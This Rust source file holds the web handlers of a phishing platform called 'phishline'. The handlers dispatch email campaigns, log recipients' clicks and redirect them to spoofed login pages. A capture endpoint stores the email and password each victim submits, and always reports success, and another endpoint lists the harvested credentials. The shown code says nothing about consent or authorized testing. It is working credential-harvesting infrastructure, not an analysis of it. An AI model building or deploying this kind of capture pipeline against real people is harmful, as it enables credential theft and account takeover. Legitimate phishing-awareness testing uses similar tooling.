//! REST handlers for campaign dispatch, click tracking, and credential
//! capture.

use axum::extract::{ConnectInfo, Form, Path, State};
use axum::http::{HeaderMap, StatusCode};
use axum::response::{Html, Redirect};
use axum::Json;
use phishline_core::delivery::DispatchReport;
use phishline_core::types::{ClickEvent, CredentialEvent};
use phishline_core::PhishlineError;
use phishline_dispatch::{Dispatcher, JobRegistry, PreviewResponse, SendRequest, TestEmailRequest};
use phishline_tracking::{RequestMeta, TrackingService};
use serde::{Deserialize, Serialize};
use std::net::SocketAddr;
use std::sync::Arc;
use std::time::Instant;
use tracing::{error, warn};
use uuid::Uuid;

/// Shared application state for REST handlers.
#[derive(Clone)]
pub struct AppState {
    pub dispatcher: Arc<Dispatcher>,
    pub tracking: Arc<TrackingService>,
    pub jobs: Arc<JobRegistry>,
    pub node_id: String,
    pub start_time: Instant,
}

#[derive(Debug, Serialize)]
pub struct ErrorResponse {
    pub error: String,
    pub message: String,
}

type ApiError = (StatusCode, Json<ErrorResponse>);

fn api_error(err: PhishlineError) -> ApiError {
    let (status, code) = match &err {
        PhishlineError::Validation(_) => (StatusCode::BAD_REQUEST, "validation_error"),
        PhishlineError::NotFound(_) => (StatusCode::NOT_FOUND, "not_found"),
        PhishlineError::Template(_) => (StatusCode::NOT_FOUND, "template_not_found"),
        PhishlineError::Smtp(_) => (StatusCode::BAD_GATEWAY, "smtp_error"),
        _ => (StatusCode::INTERNAL_SERVER_ERROR, "internal_error"),
    };
    if status.is_server_error() {
        error!(error = %err, "Request failed");
    } else {
        warn!(error = %err, "Request rejected");
    }
    (
        status,
        Json(ErrorResponse {
            error: code.to_string(),
            message: err.to_string(),
        }),
    )
}

/// First `X-Forwarded-For` entry when present, else the peer address.
pub fn client_ip(headers: &HeaderMap, peer: SocketAddr) -> String {
    headers
        .get("x-forwarded-for")
        .and_then(|v| v.to_str().ok())
        .and_then(|v| v.split(',').next())
        .map(|v| v.trim().to_string())
        .filter(|v| !v.is_empty())
        .unwrap_or_else(|| peer.ip().to_string())
}

fn request_meta(headers: &HeaderMap, peer: SocketAddr) -> RequestMeta {
    RequestMeta {
        ip: client_ip(headers, peer),
        user_agent: headers
            .get("user-agent")
            .and_then(|v| v.to_str().ok())
            .unwrap_or("Unknown")
            .to_string(),
    }
}

// ─── Campaigns ─────────────────────────────────────────────────────────────

#[derive(Debug, Serialize)]
pub struct SendResponse {
    pub status: String,
    pub campaign_id: Uuid,
    pub job_id: Uuid,
    pub recipients: usize,
}

/// POST /api/v1/campaigns/send — submit all deliveries for a campaign.
/// 201 means submission complete; per-recipient outcomes are read from
/// the job endpoint.
pub async fn handle_send(
    State(state): State<AppState>,
    Json(request): Json<SendRequest>,
) -> Result<(StatusCode, Json<SendResponse>), ApiError> {
    let receipt = state
        .dispatcher
        .dispatch(request)
        .await
        .map_err(api_error)?;

    Ok((
        StatusCode::CREATED,
        Json(SendResponse {
            status: "submitted".to_string(),
            campaign_id: receipt.campaign_id,
            job_id: receipt.job_id,
            recipients: receipt.recipient_count,
        }),
    ))
}

/// POST /api/v1/campaigns/preview — render for the first recipient
/// without persisting anything.
pub async fn handle_preview(
    State(state): State<AppState>,
    Json(request): Json<SendRequest>,
) -> Result<Json<PreviewResponse>, ApiError> {
    state
        .dispatcher
        .preview(request)
        .await
        .map(Json)
        .map_err(api_error)
}

/// GET /api/v1/campaigns/jobs/{job_id}
pub async fn job_status(
    State(state): State<AppState>,
    Path(job_id): Path<Uuid>,
) -> Result<Json<DispatchReport>, ApiError> {
    state
        .jobs
        .report(job_id)
        .map(Json)
        .ok_or_else(|| api_error(PhishlineError::NotFound("Dispatch job not found".to_string())))
}

/// POST /api/v1/campaigns/jobs/{job_id}/cancel — skip deliveries that
/// have not started; in-flight sends are not recalled.
pub async fn cancel_job(
    State(state): State<AppState>,
    Path(job_id): Path<Uuid>,
) -> Result<Json<DispatchReport>, ApiError> {
    state
        .jobs
        .cancel(job_id)
        .map(Json)
        .ok_or_else(|| api_error(PhishlineError::NotFound("Dispatch job not found".to_string())))
}

// ─── Tracking ──────────────────────────────────────────────────────────────

/// GET /track/{recipient_id}/{campaign_id}/{platform}/ — log the click
/// (first one only) and redirect to the spoofed login page.
pub async fn handle_track(
    State(state): State<AppState>,
    Path((recipient_id, campaign_id, platform)): Path<(Uuid, Uuid, String)>,
    ConnectInfo(peer): ConnectInfo<SocketAddr>,
    headers: HeaderMap,
) -> Result<Redirect, ApiError> {
    let meta = request_meta(&headers, peer);
    let target = state
        .tracking
        .track_click(recipient_id, campaign_id, &platform, &meta)
        .map_err(api_error)?;

    Ok(Redirect::to(&target))
}

/// GET /login-template/{recipient_id}/{campaign_id}/{platform}/
pub async fn handle_login_template(
    State(state): State<AppState>,
    Path((recipient_id, campaign_id, platform)): Path<(Uuid, Uuid, String)>,
) -> Result<Html<String>, ApiError> {
    state
        .tracking
        .login_page(recipient_id, campaign_id, &platform)
        .map(Html)
        .map_err(api_error)
}

#[derive(Debug, Deserialize)]
pub struct CaptureForm {
    pub email: String,
    pub password: String,
}

#[derive(Debug, Serialize)]
pub struct CaptureAck {
    pub status: String,
}

/// POST /capture/{recipient_id}/{campaign_id}/{platform}/ — append the
/// submission. Always succeeds, even for stale recipient/campaign ids.
pub async fn handle_capture(
    State(state): State<AppState>,
    Path((recipient_id, campaign_id, platform)): Path<(Uuid, Uuid, String)>,
    ConnectInfo(peer): ConnectInfo<SocketAddr>,
    headers: HeaderMap,
    Form(form): Form<CaptureForm>,
) -> Json<CaptureAck> {
    let meta = request_meta(&headers, peer);
    state.tracking.capture(
        recipient_id,
        campaign_id,
        &platform,
        form.email,
        form.password,
        &meta,
    );

    Json(CaptureAck {
        status: "success".to_string(),
    })
}

// ─── Events ────────────────────────────────────────────────────────────────

pub async fn list_clicks(State(state): State<AppState>) -> Json<Vec<ClickEvent>> {
    Json(state.tracking.clicks())
}

pub async fn list_credentials(State(state): State<AppState>) -> Json<Vec<CredentialEvent>> {
    Json(state.tracking.credentials())
}

// ─── Senders ───────────────────────────────────────────────────────────────

/// POST /api/v1/senders/test — verify ad-hoc SMTP settings.
pub async fn handle_test_email(
    State(state): State<AppState>,
    Json(request): Json<TestEmailRequest>,
) -> Result<Json<serde_json::Value>, ApiError> {
    state
        .dispatcher
        .send_test_email(request)
        .await
        .map_err(api_error)?;

    Ok(Json(
        serde_json::json!({ "message": "Test email sent successfully" }),
    ))
}

// ─── Operational ───────────────────────────────────────────────────────────

pub async fn health_check(State(state): State<AppState>) -> Json<serde_json::Value> {
    Json(serde_json::json!({
        "status": "healthy",
        "node_id": state.node_id,
        "uptime_secs": state.start_time.elapsed().as_secs(),
    }))
}
